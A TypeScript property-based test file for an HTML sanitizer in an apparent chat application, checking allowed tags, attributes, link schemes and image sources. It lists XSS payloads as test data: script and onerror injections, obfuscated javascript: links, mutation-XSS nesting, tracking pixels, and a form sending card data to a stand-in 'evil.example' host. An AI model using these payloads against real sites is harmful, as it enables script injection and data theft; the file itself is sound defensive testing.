import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { MARKDOWN_POLICY } from '../rules/markdown-policy.js';
import { sanitizeHtml } from './sanitize-html.js';

const SERVER = 'http://confab.test';
const clean = (html: string) => sanitizeHtml(html, SERVER);

/**
 * Every element and attribute of the sanitized markup as a browser builds it from the string
 * (what dangerouslySetInnerHTML does): checked after that parse, not before it.
 */
function parts(html: string): { tags: string[]; attrs: Array<[string, string, string]> } {
  const template = document.createElement('template');
  template.innerHTML = html;
  const elements = Array.from(template.content.querySelectorAll('*'));
  return {
    tags: elements.map((el) => el.localName),
    attrs: elements.flatMap((el) => Array.from(el.attributes, (a): [string, string, string] => [el.localName, a.name, a.value])),
  };
}

// Fragments of hostile markup from the usual XSS lists and issue 14, to be nested and joined at random.
const HOSTILE = [
  '<script>window.pwned=1</script>',
  '<img src=x onerror="window.pwned=1">',
  '<svg><style>*{display:none}</style><a href="javascript:1">s</a></svg>',
  '<math><mi><a href="javascript:1">m</a></mi></math>',
  '<a href=" java\tscript:alert(1)">j</a>',
  '<a href="&#106;avascript:alert(1)">e</a>',
  '<a href="https://example.com" onclick="x()" class="quick-reply" id="composer" name="send" data-x="1" aria-label="Close chat" style="color:red">ok</a>',
  '<img src="http://tracker.example/p.gif" alt="pixel">',
  '<img src="https://cdn.example.com/a.png" srcset="http://tracker.example/p.gif 2x" alt="a">',
  '<video poster="http://tracker.example/p.gif"><source src="http://tracker.example/v.mp4"></video>',
  '<form action="https://evil.example"><input name="card"><button formaction="https://evil.example">Pay</button></form>',
  '<iframe srcdoc="<script>window.pwned=1</script>"></iframe>',
  '<template><img src=x onerror=1></template>',
  '<noscript><p title="</noscript><img src=x onerror=1>"></p></noscript>',
  '<!-- <img src=x onerror=1> -->',
  '<table background="http://tracker.example/bg.gif"><tr><td align="right">c</td></tr></table>',
  '<div onmouseover="x()"><b>bold</b></div>',
  '<p>text &lt;not a tag&gt;</p>',
  '<ol start="3"><li>three</li></ol>',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
];
const markup: fc.Arbitrary<string> = fc.letrec((tie) => ({
  node: fc.oneof(
    { depthSize: 'small' },
    fc.constantFrom(...HOSTILE),
    fc.string({ maxLength: 8 }),
    fc.tuple(fc.constantFrom('p', 'div', 'a', 'b', 'svg', 'math', 'table', 'td', 'noscript', 'select', 'textarea', 'style', 'li', 'blockquote'), tie('list')).map(
      ([tag, inner]) => `<${tag}>${inner as string}</${tag}>`,
    ),
  ),
  list: fc.array(tie('node'), { maxLength: 4 }).map((nodes) => (nodes as string[]).join('')),
})).list as fc.Arbitrary<string>;

describe('sanitizeHtml', () => {
  it('keeps only allowed elements and attributes, checked links and images, whatever the input', () => {
    fc.assert(
      fc.property(markup, (html) => {
        const out = clean(html);
        const { tags, attrs } = parts(out);
        for (const tag of tags) expect(MARKDOWN_POLICY.ALLOWED_TAGS).toContain(tag);
        for (const [tag, name, value] of attrs) {
          expect([...MARKDOWN_POLICY.ALLOWED_ATTR, 'target', 'rel', 'referrerpolicy']).toContain(name);
          if (name === 'href') expect(tag === 'a' && /^(https?|mailto|tel):/.test(value), value).toBe(true);
          if (name === 'src') expect(tag === 'img' && (value.startsWith('https:') || value.startsWith(`${SERVER}/`)), value).toBe(true);
        }
      }),
      { numRuns: 300 },
    );
  });

  it('drops code, style sheets, frames, media and foreign content with what is in them', () => {
    expect(clean('a<script>alert(1)</script><style>p{}</style><svg><text>s</text></svg><math><mi>m</mi></math><template>t</template>b')).toBe('ab');
    expect(clean('<iframe srcdoc="x">i</iframe><video>v</video>c')).toBe('c');
  });

  it('keeps the text of other elements, and no comments', () => {
    expect(clean('<div class="x"><span>one</span> <u>two</u></div><!-- hidden -->')).toBe('one two');
  });

  it('refuses link schemes hidden behind whitespace, control characters or entities', () => {
    for (const href of [' javascript:alert(1)', 'java\tscript:alert(1)', '\u0001javascript:alert(1)', '&#106;avascript:alert(1)', 'data:text/html,x']) {
      const out = clean(`<a href="${href}">x</a>`);
      expect(out, href).not.toContain('href');
      expect(out).toContain('>x</a>');
    }
  });

  it('makes every link open in a new tab without an opener', () => {
    expect(clean('<a href="https://example.com" target="_self" rel="opener">x</a>')).toBe(
      '<a href="https://example.com/" target="_blank" rel="noopener noreferrer">x</a>',
    );
  });

  it('gives an image without alt text an empty one (decoration, not a file name read out)', () => {
    expect(clean('<img src="https://cdn.example.com/a.png">')).toBe('<img src="https://cdn.example.com/a.png" referrerpolicy="no-referrer" alt="">');
  });

  it('turns an image without a source it may load into its alt text', () => {
    expect(clean('<img alt="no source">')).toBe('no source');
    expect(clean('<img src="http://tracker.example/p.gif" alt="pixel">')).toBe('pixel');
    expect(clean('<img src="/menu.png" alt="menu" title="Menu">')).toBe(
      '<img alt="menu" title="Menu" src="http://confab.test/menu.png" referrerpolicy="no-referrer">',
    );
  });
});
